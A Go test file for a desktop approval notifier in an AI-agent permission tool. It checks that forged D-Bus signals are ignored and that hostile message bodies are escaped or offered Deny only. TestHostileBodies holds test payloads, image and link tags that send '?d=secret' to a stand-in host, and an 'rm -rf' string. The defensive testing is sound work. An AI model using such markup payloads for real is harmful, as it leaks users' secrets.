package notify

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/godbus/dbus/v5"
	"go.uber.org/goleak"

	"github.com/carapace-dev/carapace/app/desktoptest"
	"github.com/carapace-dev/carapace/internal/testutil/leaktest"
)

// The tests run the Notifier against the fake notification server of
// app/desktoptest on a private dbus-daemon. Negative checks
// ("this press is ignored") are made without waiting for time to pass:
// the forged or foreign signal is sent first and routed by the bus
// (desktop's senders return only then), then a genuine press is sent; the
// bus delivers the two to the Notifier in that order and the Notifier
// handles signals in order, so the first Action to arrive tells whether
// the first signal counted. The genuine press is the positive control.

// wantButtons is what every approval offers.
var wantButtons = []string{"approve", "Approve", "deny", "Deny"}

func TestShowInvokeWithdraw(t *testing.T) {
	for _, tc := range []struct {
		press string
		want  bool
	}{
		{"approve", true},
		{"deny", false},
	} {
		t.Run(tc.press, func(t *testing.T) {
			f := start(t, desktoptest.NotificationServerOptions{}, Options{Icon: "dialog-warning"})
			if ok, why := f.n.Permission(); !ok {
				t.Fatalf("Permission() = false, %q; want true", why)
			}
			id := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve send_email?", Body: "send_email · main · 3f2a9c01 · to=bob"})
			got := f.server.Recorded().Notifications[0]
			want := desktoptest.Notification{
				ID: id, Sender: got.Sender, AppName: "Carapace", Icon: "dialog-warning",
				Summary: "Approve send_email?", Body: "send_email · main · 3f2a9c01 · to=bob", Actions: wantButtons,
			}
			if got.Urgency() != 2 {
				t.Errorf("urgency %d; want 2 (critical)", got.Urgency())
			}
			got.Hints = nil
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("Notify:\n got %+v\nwant %+v", got, want)
			}

			// Showing the key again replaces the notification.
			if again := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve send_email?", Body: "changed"}); again != id {
				t.Errorf("a second Show of c1 raised notification %d; want %d replaced", again, id)
			}
			if r := f.server.Recorded().Notifications[1]; r.ReplacesID != id {
				t.Errorf("the second Notify had replaces_id %d; want %d", r.ReplacesID, id)
			}

			f.server.Invoke(t, id, tc.press)
			if a := nextAction(t, f.n); a != (Action{Key: "c1", Approve: tc.want}) {
				t.Errorf("pressing %s delivered %+v", tc.press, a)
			}

			if err := f.n.Withdraw("c1"); err != nil {
				t.Fatal(err)
			}
			if err := f.n.Withdraw("c1"); err != nil { // no longer shown: nothing to do
				t.Fatal(err)
			}
			if closes := f.server.Recorded().Closes; len(closes) != 1 || closes[0].ID != id {
				t.Errorf("CloseNotification calls %+v; want one for %d", closes, id)
			}
		})
	}
}

// TestForgedSignalsIgnored: ActionInvoked and NotificationClosed count only
// from the notification server, however they are sent.
func TestForgedSignalsIgnored(t *testing.T) {
	for _, tc := range []struct {
		name string
		// forge sends the forged signal about notification id, shown to
		// notifier (its unique name).
		forge func(t *testing.T, forger *desktoptest.Forger, notifier string, id uint32)
		// reaches says whether the forged signal reaches the Notifier's
		// connection: a broadcast is kept away by the match rule, an
		// addressed signal is not.
		reaches bool
	}{
		{"ActionInvoked to everyone", func(t *testing.T, f *desktoptest.Forger, _ string, id uint32) {
			f.ActionInvoked(t, "", id, "approve")
		}, false},
		{"ActionInvoked to the notifier", func(t *testing.T, f *desktoptest.Forger, notifier string, id uint32) {
			f.ActionInvoked(t, notifier, id, "approve")
		}, true},
		{"NotificationClosed to the notifier", func(t *testing.T, f *desktoptest.Forger, notifier string, id uint32) {
			f.NotificationClosed(t, notifier, id, 2) // were it believed, the press below would be ignored
		}, true},
		{"a forged change of owner, then ActionInvoked", func(t *testing.T, f *desktoptest.Forger, notifier string, id uint32) {
			server := desktoptest.NameOwner(t, f.Conn(), serviceName)
			f.Signal(t, notifier, busDriverPath, sigNameOwnerChanged, serviceName, server, f.UniqueName())
			f.ActionInvoked(t, notifier, id, "approve")
		}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := start(t, desktoptest.NotificationServerOptions{}, Options{})
			id := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
			notifier := f.server.Recorded().Notifications[0].Sender

			// An observer that listens to every ActionInvoked: the proof
			// that a broadcast forgery really went out on the bus.
			observer := desktoptest.Connect(t, f.addr)
			seen := make(chan *dbus.Signal, 8)
			observer.Signal(seen)
			if err := observer.AddMatchSignal(dbus.WithMatchInterface(serviceName)); err != nil {
				t.Fatal(err)
			}

			forger := desktoptest.NewForger(t, f.addr)
			tc.forge(t, forger, notifier, id)
			f.server.Invoke(t, id, "deny") // the genuine press, after the forgery
			if a := nextAction(t, f.n); a != (Action{Key: "c1", Approve: false}) {
				t.Fatalf("first action %+v; want the server's deny of c1 (the forgery must count for nothing)", a)
			}

			// The forgery was there to be ignored: it reached the
			// Notifier, which handled it before the genuine press, or it
			// went out to the bus and the match rules kept it away.
			if tc.reaches {
				if !f.log.has(msgForeign, "sender", forger.UniqueName()) {
					t.Errorf("the Notifier logged no forgery from %s: did it reach it?", forger.UniqueName())
				}
			} else if sig := receiveSignal(t, seen); sig.Sender != forger.UniqueName() {
				t.Errorf("the observer saw %s from %s first; want the forgery from %s", sig.Name, sig.Sender, forger.UniqueName())
			}
		})
	}
}

// TestForeignNotificationsIgnored: a genuine signal from the server counts
// only for a notification this Notifier raised and still shows, and only
// once, and only for a button.
func TestForeignNotificationsIgnored(t *testing.T) {
	for _, tc := range []struct {
		name string
		// before does what must be ignored to c1 (shown as id); the
		// press of c2 that follows must be the first action.
		before func(t *testing.T, f *fixture, id uint32)
	}{
		{"another client's notification", func(t *testing.T, f *fixture, _ uint32) {
			other := desktoptest.Connect(t, f.addr)
			var theirs uint32
			if err := other.Object(serviceName, servicePath).Call(serviceName+".Notify", 0, "other app", uint32(0), "", "hi", "", wantButtons,
				map[string]dbus.Variant{}, int32(0)).Store(&theirs); err != nil {
				t.Fatal(err)
			}
			f.server.Invoke(t, theirs, "approve")
		}},
		{"closed by the user", func(t *testing.T, f *fixture, id uint32) {
			f.server.Dismiss(t, id, 2)
			f.server.Invoke(t, id, "approve")
		}},
		{"withdrawn", func(t *testing.T, f *fixture, id uint32) {
			if err := f.n.Withdraw("c1"); err != nil {
				t.Fatal(err)
			}
			f.server.Invoke(t, id, "approve")
		}},
		{"answered already", func(t *testing.T, f *fixture, id uint32) {
			f.server.Invoke(t, id, "deny")
			if a := nextAction(t, f.n); a != (Action{Key: "c1"}) {
				t.Fatalf("first press delivered %+v; want c1 denied", a)
			}
			f.server.Invoke(t, id, "approve")
		}},
		{"not a button", func(t *testing.T, f *fixture, id uint32) {
			f.server.Invoke(t, id, "default") // the body clicked
			f.server.Invoke(t, id, "Approve") // a label, not a key
		}},
		{"an id never shown", func(t *testing.T, f *fixture, id uint32) {
			f.server.Invoke(t, id+100, "approve")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := start(t, desktoptest.NotificationServerOptions{}, Options{})
			id := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
			tc.before(t, f, id)
			id2 := f.show(t, Notification{Approve: true, Key: "c2", Title: "Approve?", Body: "b"})
			f.server.Invoke(t, id2, "approve")
			if a := nextAction(t, f.n); a != (Action{Key: "c2", Approve: true}) {
				t.Fatalf("first action %+v; want c2 approved (what came before must be ignored)", a)
			}
		})
	}
}

func TestPermission(t *testing.T) {
	const body = `<a href="https://evil.example">click</a> & "quote"`
	for _, tc := range []struct {
		name     string
		noServer bool
		caps     []string
		ok       bool
		why      []string // substrings of why
		wantBody string   // the body the server gets, when ok
	}{
		{name: "actions", caps: []string{"actions", "body"}, ok: true, wantBody: body + "\n" + reviewAsWritten},
		{name: "actions and markup", caps: []string{"actions", "body", "body-markup"}, ok: true,
			wantBody: `&lt;a href="https://evil.example"&gt;click&lt;/a&gt; &amp; "quote"`},
		{name: "no actions", caps: []string{"body", "body-markup"}, why: []string{"carapace-test-notifications 7", "cannot show Approve and Deny", "Carapace menu"}},
		{name: "no server", noServer: true, why: []string{"no notification service", "Carapace menu"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			addr := desktoptest.StartBus(t)
			var server *desktoptest.NotificationServer
			if !tc.noServer {
				server = desktoptest.StartNotificationServer(t, addr, desktoptest.NotificationServerOptions{Capabilities: tc.caps, Version: "7"})
			}
			n := newNotifier(t, Options{BusAddress: addr}, nil)
			ok, why := n.Permission()
			if ok != tc.ok {
				t.Fatalf("Permission() = %v, %q; want %v", ok, why, tc.ok)
			}
			for _, w := range tc.why {
				if !strings.Contains(why, w) {
					t.Errorf("why %q does not say %q", why, w)
				}
			}
			err := n.Show(Notification{Approve: true, Key: "c1", Title: "Approve?", Body: body})
			if tc.ok {
				if err != nil {
					t.Fatal(err)
				}
				if got := server.Recorded().Notifications[0].Body; got != tc.wantBody {
					t.Errorf("body %q; want %q", got, tc.wantBody)
				}
				return
			}
			if !errors.Is(err, ErrUnavailable) || !strings.Contains(err.Error(), "Carapace menu") {
				t.Errorf("Show = %v; want ErrUnavailable saying to use the menu", err)
			}
			if server != nil && len(server.Recorded().Notifications) != 0 {
				t.Errorf("a notification without buttons was shown: %+v", server.Recorded().Notifications)
			}
		})
	}
}

// Agent text in a body can be markup: a link, or an image some servers
// fetch at once. It is escaped for a server that reads markup; a server
// that does not read it may still strip what looks like a tag, and one
// that renders HTML folds spaces — where the body might not show as
// written, the notification offers Deny only and says where to review.
// Nothing else in the notification carries the text: the icon is the
// app's option, the only hint is urgency.
func TestHostileBodies(t *testing.T) {
	const (
		img    = `message = "<img src=\"http://x.example/?d=secret\">"`
		link   = `message = "<a href=\"http://x.example/?d=secret\">open</a>"`
		amp    = `message = "fish &amp; chips & co"`
		spaces = `message = "rm  -rf"`
		plain  = `message = "hello, world"`
	)
	for _, tc := range []struct {
		name        string
		markup      bool
		body        string
		approve     bool   // Notification.Approve
		wantBody    string // as the server gets it
		wantApprove bool
	}{
		{"plain text, plain server", false, plain, true, plain, true},     // the positive control
		{"plain text, markup server", true, plain, true, plain, true},     // the positive control
		{"plain text, not approvable", false, plain, false, plain, false}, // the app withheld it
		{"image, markup server", true, img, true, `message = "&lt;img src=\"http://x.example/?d=secret\"&gt;"`, true},
		{"link, markup server", true, link, true, `message = "&lt;a href=\"http://x.example/?d=secret\"&gt;open&lt;/a&gt;"`, true},
		{"ampersands, markup server", true, amp, true, `message = "fish &amp;amp; chips &amp; co"`, true},
		{"image, plain server", false, img, true, img + "\n" + reviewAsWritten, false},
		{"link, plain server", false, link, true, link + "\n" + reviewAsWritten, false},
		{"ampersands, plain server", false, amp, true, amp + "\n" + reviewAsWritten, false},
		{"spaces, markup server", true, spaces, true, spaces + "\n" + reviewAsWritten, false},
		{"spaces, plain server", false, spaces, true, spaces + "\n" + reviewAsWritten, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			caps := []string{"actions", "body"}
			if tc.markup {
				caps = append(caps, "body-markup", "body-hyperlinks", "body-images")
			}
			f := start(t, desktoptest.NotificationServerOptions{Capabilities: caps}, Options{Icon: "dialog-warning"})
			id := f.show(t, Notification{Key: "c1", Title: "Approve echo?", Body: tc.body, Approve: tc.approve})
			got := f.server.Recorded().Notifications[0]
			if got.Body != tc.wantBody {
				t.Errorf("body %q; want %q", got.Body, tc.wantBody)
			}
			wantActions := []string{"deny", "Deny"}
			if tc.wantApprove {
				wantActions = wantButtons
			}
			if !slices.Equal(got.Actions, wantActions) {
				t.Errorf("actions %q; want %q", got.Actions, wantActions)
			}
			if got.Icon != "dialog-warning" || got.Summary != "Approve echo?" || got.AppName != "Carapace" || len(got.Hints) != 1 || got.Urgency() != 2 {
				t.Errorf("icon %q, summary %q, app %q, hints %v; want the app's icon and name, the title, and urgency alone", got.Icon, got.Summary, got.AppName, got.Hints)
			}
			if tc.wantApprove {
				return
			}
			// Without the button, a press of "approve" — a server's bug, or
			// a stale one — decides nothing; the genuine Deny that follows
			// does.
			f.server.Invoke(t, id, "approve")
			f.server.Invoke(t, id, "deny")
			if a := nextAction(t, f.n); a != (Action{Key: "c1", Approve: false}) {
				t.Errorf("Approve on a Deny-only notification delivered %+v; want the Deny that followed", a)
			}
			if !f.log.has(msgNoApprove, "key", "c1") {
				t.Error("the ignored Approve was not logged")
			}
		})
	}
}

// TestServerChanges: the Notifier follows the service's owner — its match
// rule moves to the new owner, the old owner's notifications are
// forgotten (the new one cannot press them), and the new owner's count.
func TestServerChanges(t *testing.T) {
	f := start(t, desktoptest.NotificationServerOptions{}, Options{})
	old := f.server
	oldID := f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
	notifier := old.Recorded().Notifications[0].Sender
	probe := desktoptest.Connect(t, f.addr)
	if rules := serverRules(t, probe, notifier); !slices.Equal(rules, []string{old.UniqueName()}) {
		t.Fatalf("the notifier's rules for the service's signals are from %q; want only %s", rules, old.UniqueName())
	}

	old.Stop(t)
	f.log.wait(t, msgServer, "owner", "")
	if ok, why := f.n.Permission(); ok || !strings.Contains(why, "no notification service") {
		t.Errorf("with no server, Permission() = %v, %q", ok, why)
	}
	if err := f.n.Show(Notification{Approve: true, Key: "c9", Title: "t", Body: "b"}); !errors.Is(err, ErrUnavailable) {
		t.Errorf("with no server, Show = %v; want ErrUnavailable", err)
	}

	// The new server numbers its notifications from 100: were the old
	// server's id still known, the new owner's press of it would count.
	replacement := desktoptest.StartNotificationServer(t, f.addr, desktoptest.NotificationServerOptions{FirstID: 100})
	f.log.wait(t, msgServer, "owner", replacement.UniqueName())
	if rules := serverRules(t, probe, notifier); !slices.Equal(rules, []string{replacement.UniqueName()}) {
		t.Fatalf("after the change, the rules are from %q; want only %s", rules, replacement.UniqueName())
	}
	if err := f.n.Withdraw("c1"); err != nil {
		t.Fatal(err)
	}
	if closes := replacement.Recorded().Closes; len(closes) != 0 {
		t.Errorf("withdrawing a notification of the old server called the new one: %+v", closes)
	}

	f.server = replacement
	newID := f.show(t, Notification{Approve: true, Key: "c2", Title: "Approve?", Body: "b"})
	replacement.Invoke(t, oldID, "approve") // the old server's id, pressed by the new owner
	replacement.Invoke(t, newID, "deny")
	if a := nextAction(t, f.n); a != (Action{Key: "c2", Approve: false}) {
		t.Fatalf("first action %+v; want c2 denied (the press of the forgotten c1 must not count)", a)
	}
}

// TestActionsNeverBlock: presses the app does not read are dropped, and
// logged, once the buffer is full; the Notifier keeps working.
func TestActionsNeverBlock(t *testing.T) {
	f := start(t, desktoptest.NotificationServerOptions{}, Options{})
	var ids []uint32
	for i := range actionBuffer + 1 {
		ids = append(ids, f.show(t, Notification{Approve: true, Key: fmt.Sprint("c", i), Title: "Approve?", Body: "b"}))
	}
	for _, id := range ids {
		f.server.Invoke(t, id, "approve")
	}
	f.log.wait(t, msgDropped, "key", fmt.Sprint("c", actionBuffer))

	// Still working: a new notification shows and is withdrawn.
	f.show(t, Notification{Approve: true, Key: "late", Title: "Approve?", Body: "b"})
	if err := f.n.Withdraw("late"); err != nil {
		t.Fatal(err)
	}
	if got := len(f.n.Actions()); got != actionBuffer {
		t.Fatalf("%d actions buffered; want %d", got, actionBuffer)
	}
	for i := range actionBuffer {
		if a := nextAction(t, f.n); a != (Action{Key: fmt.Sprint("c", i), Approve: true}) {
			t.Fatalf("action %d = %+v", i, a)
		}
	}
}

// TestClose: Close withdraws what is shown, closes Actions, refuses
// further use, and leaves no goroutine behind.
func TestClose(t *testing.T) {
	addr := desktoptest.StartBus(t)
	server := desktoptest.StartNotificationServer(t, addr, desktoptest.NotificationServerOptions{})
	ignore := goleak.IgnoreCurrent()
	n, err := New(nil, Options{BusAddress: addr})
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"c1", "c2"} {
		if err := n.Show(Notification{Approve: true, Key: key, Title: "Approve?", Body: "b"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := n.Withdraw("c1"); err != nil {
		t.Fatal(err)
	}
	if err := n.Close(); err != nil {
		t.Fatal(err)
	}
	r := server.Recorded()
	if len(r.Open) != 0 || len(r.Closes) != 2 {
		t.Errorf("after Close: open %v, closes %+v; want none open, two closes", r.Open, r.Closes)
	}
	if _, open := <-n.Actions(); open {
		t.Error("Actions is not closed")
	}
	if ok, _ := n.Permission(); ok {
		t.Error("Permission() = true after Close")
	}
	if err := n.Show(Notification{Approve: true, Key: "c3", Title: "t", Body: "b"}); err == nil {
		t.Error("Show after Close succeeded")
	}
	if err := n.Close(); err != nil {
		t.Errorf("a second Close: %v", err)
	}
	leaktest.Check(t, ignore)
}

// TestActivatedServer: a notification server that the bus starts on
// demand (D-Bus activation, as xfce4-notifyd is started) is started by New
// and used.
func TestActivatedServer(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	addr := desktoptest.StartBusWith(t, desktoptest.BusOptions{Services: map[string][]string{
		serviceName: {self, "-test.run=^TestHelperActivatedServer$"},
	}})
	log := &logRecorder{}
	n := newNotifier(t, Options{BusAddress: addr}, log)
	if ok, why := n.Permission(); !ok {
		t.Fatalf("Permission() = false, %q; want the activated server's true", why)
	}
	if err := n.Show(Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"}); err != nil {
		t.Fatal(err)
	}
	probe := desktoptest.Connect(t, addr)
	owner := desktoptest.NameOwner(t, probe, serviceName)
	var pid uint32
	if err := probe.BusObject().Call("org.freedesktop.DBus.GetConnectionUnixProcessID", 0, owner).Store(&pid); err != nil {
		t.Fatal(err)
	}
	if pid == 0 || int(pid) == os.Getpid() {
		t.Errorf("the server %s runs in process %d; want the one the bus started", owner, pid)
	}
	if !log.has(msgServer, "owner", owner) {
		t.Errorf("the Notifier does not follow the activated server %s", owner)
	}
}

// TestHelperActivatedServer is not a test of its own: it is the
// notification server that the bus of TestActivatedServer runs, in a
// process of its own, when asked for the service. Run as a test, it has
// no bus to serve and returns.
func TestHelperActivatedServer(t *testing.T) {
	addr := os.Getenv("DBUS_STARTER_ADDRESS")
	if addr == "" || os.Getenv("DBUS_STARTER_BUS_TYPE") != "session" {
		return
	}
	server := desktoptest.StartNotificationServer(t, addr, desktoptest.NotificationServerOptions{})
	<-server.Done() // until the bus goes away at the end of TestActivatedServer
}

// TestBusLost: when the bus goes away, Actions closes and Permission says
// so; Close still succeeds.
func TestBusLost(t *testing.T) {
	f := start(t, desktoptest.NotificationServerOptions{}, Options{})
	f.show(t, Notification{Approve: true, Key: "c1", Title: "Approve?", Body: "b"})
	var pid uint32
	if err := desktoptest.Connect(t, f.addr).BusObject().Call("org.freedesktop.DBus.GetConnectionUnixProcessID", 0, "org.freedesktop.DBus").Store(&pid); err != nil {
		t.Fatal(err)
	}
	daemon, err := os.FindProcess(int(pid))
	if err != nil {
		t.Fatal(err)
	}
	if err := daemon.Kill(); err != nil {
		t.Fatalf("kill dbus-daemon (pid %d): %v", pid, err)
	}
	select {
	case a, open := <-f.n.Actions():
		if open {
			t.Fatalf("an action %+v arrived from a dead bus", a)
		}
	case <-time.After(desktoptest.Timeout):
		t.Fatalf("Actions still open %s after the bus died", desktoptest.Timeout)
	}
	if ok, why := f.n.Permission(); ok || !strings.Contains(why, "lost the connection") {
		t.Errorf("Permission() = %v, %q; want false, saying the connection was lost", ok, why)
	}
	if err := f.n.Show(Notification{Approve: true, Key: "c2", Title: "t", Body: "b"}); !errors.Is(err, ErrUnavailable) {
		t.Errorf("Show = %v; want ErrUnavailable", err)
	}
}

// TestNoBus: without a bus to connect to, New fails with ErrUnavailable
// and never launches one; with one, found the same ways, it succeeds.
func TestNoBus(t *testing.T) {
	live := desktoptest.StartBus(t)
	socket := strings.TrimPrefix(strings.Split(live, ",")[0], "unix:path=")
	runtimeWithBus := t.TempDir()
	if err := os.Symlink(socket, filepath.Join(runtimeWithBus, "bus")); err != nil {
		t.Fatal(err)
	}
	// A socket nobody listens on.
	deadDir := t.TempDir()
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: filepath.Join(deadDir, "bus"), Net: "unix"})
	if err != nil {
		t.Fatal(err)
	}
	l.SetUnlinkOnClose(false)
	_ = l.Close()

	for _, tc := range []struct {
		name            string
		address         string // Options.BusAddress
		env, runtimeDir string // DBUS_SESSION_BUS_ADDRESS, XDG_RUNTIME_DIR
		ok              bool
	}{
		{name: "option", address: live, ok: true},
		{name: "environment", env: live, ok: true},
		{name: "runtime dir", runtimeDir: runtimeWithBus, ok: true},
		{name: "no such socket", address: "unix:path=" + filepath.Join(deadDir, "missing")},
		{name: "nobody listens", env: "unix:path=" + filepath.Join(deadDir, "bus")},
		{name: "nothing set", runtimeDir: t.TempDir()},
		{name: "autolaunch", env: "autolaunch:", runtimeDir: t.TempDir()},
		{name: "not an address", address: "bogus"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Setenv("DBUS_SESSION_BUS_ADDRESS", tc.env)
			t.Setenv("XDG_RUNTIME_DIR", tc.runtimeDir)
			n, err := New(nil, Options{BusAddress: tc.address})
			if tc.ok {
				if err != nil {
					t.Fatalf("New: %v", err)
				}
				_ = n.Close()
				return
			}
			if !errors.Is(err, ErrUnavailable) {
				if n != nil {
					_ = n.Close()
				}
				t.Fatalf("New = %v; want ErrUnavailable", err)
			}
			if !strings.Contains(err.Error(), "desktop session") {
				t.Errorf("the error %q does not say what to do", err)
			}
		})
	}
}

// fixture is a bus, a notification server and a Notifier on it.
type fixture struct {
	addr   string
	server *desktoptest.NotificationServer
	n      Notifier
	log    *logRecorder
}

// start starts a bus and a server, and a Notifier with opts on them.
func start(t *testing.T, server desktoptest.NotificationServerOptions, opts Options) *fixture {
	t.Helper()
	f := &fixture{addr: desktoptest.StartBus(t), log: &logRecorder{}}
	f.server = desktoptest.StartNotificationServer(t, f.addr, server)
	opts.BusAddress = f.addr
	f.n = newNotifier(t, opts, f.log)
	return f
}

// newNotifier returns a Notifier closed when the test ends.
func newNotifier(t *testing.T, opts Options, log *logRecorder) Notifier {
	t.Helper()
	if log == nil {
		log = &logRecorder{}
	}
	n, err := New(slog.New(log), opts)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() {
		if err := n.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	return n
}

// show shows note and returns the id the server gave it.
func (f *fixture) show(t *testing.T, note Notification) uint32 {
	t.Helper()
	if err := f.n.Show(note); err != nil {
		t.Fatalf("Show(%s): %v", note.Key, err)
	}
	r := f.server.Recorded().Notifications
	return r[len(r)-1].ID
}

// nextAction returns the next Action, failing the test after
// desktoptest.Timeout.
func nextAction(t *testing.T, n Notifier) Action {
	t.Helper()
	select {
	case a, ok := <-n.Actions():
		if !ok {
			t.Fatal("Actions closed")
		}
		return a
	case <-time.After(desktoptest.Timeout):
		t.Fatalf("no action within %s", desktoptest.Timeout)
	}
	return Action{}
}

// receiveSignal returns the next signal of the notification service's
// interface from sigs, failing the test after desktoptest.Timeout.
func receiveSignal(t *testing.T, sigs <-chan *dbus.Signal) *dbus.Signal {
	t.Helper()
	timeout := time.After(desktoptest.Timeout)
	for {
		select {
		case sig := <-sigs:
			if strings.HasPrefix(sig.Name, serviceName+".") {
				return sig
			}
		case <-timeout:
			t.Fatalf("no signal within %s", desktoptest.Timeout)
			return nil
		}
	}
}

// serverRules returns the senders named by the match rules of the
// connection conn (a unique name) for the notification service's
// interface, as the bus daemon reports them (its Debug.Stats interface).
func serverRules(t *testing.T, probe *dbus.Conn, conn string) []string {
	t.Helper()
	var all map[string][]string
	if err := probe.BusObject().Call("org.freedesktop.DBus.Debug.Stats.GetAllMatchRules", 0).Store(&all); err != nil {
		t.Fatalf("ask dbus-daemon for the match rules (it needs its statistics interface): %v", err)
	}
	var senders []string
	for _, rule := range all[conn] {
		if !strings.Contains(rule, "interface='"+serviceName+"'") {
			continue
		}
		sender := "(any)"
		for part := range strings.SplitSeq(rule, ",") {
			if v, ok := strings.CutPrefix(part, "sender="); ok {
				sender = strings.Trim(v, "'")
			}
		}
		senders = append(senders, sender)
	}
	return senders
}

// logRecorder is a slog.Handler that keeps every record's message and
// attributes, for tests to wait on.
type logRecorder struct {
	mu      sync.Mutex
	records []map[string]string // "msg" and each attribute
	changed chan struct{}
}

func (h *logRecorder) Enabled(context.Context, slog.Level) bool { return true }
func (h *logRecorder) WithAttrs([]slog.Attr) slog.Handler       { return h }
func (h *logRecorder) WithGroup(string) slog.Handler            { return h }

func (h *logRecorder) Handle(_ context.Context, r slog.Record) error {
	rec := map[string]string{"msg": r.Message}
	r.Attrs(func(a slog.Attr) bool {
		rec[a.Key] = a.Value.String()
		return true
	})
	h.mu.Lock()
	defer h.mu.Unlock()
	h.records = append(h.records, rec)
	if h.changed != nil {
		close(h.changed)
		h.changed = nil
	}
	return nil
}

// has reports whether a record with message msg and attribute key =
// value has been logged.
func (h *logRecorder) has(msg, key, value string) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.ContainsFunc(h.records, func(r map[string]string) bool { return r["msg"] == msg && r[key] == value })
}

// wait waits until a record with message msg and attribute key = value
// has been logged.
func (h *logRecorder) wait(t *testing.T, msg, key, value string) {
	t.Helper()
	timeout := time.After(desktoptest.Timeout)
	for {
		h.mu.Lock()
		found := slices.ContainsFunc(h.records, func(r map[string]string) bool { return r["msg"] == msg && r[key] == value })
		if h.changed == nil {
			h.changed = make(chan struct{})
		}
		changed, records := h.changed, slices.Clone(h.records)
		h.mu.Unlock()
		if found {
			return
		}
		select {
		case <-changed:
		case <-timeout:
			t.Fatalf("no log %q with %s=%s within %s; the log: %v", msg, key, value, desktoptest.Timeout, records)
		}
	}
}
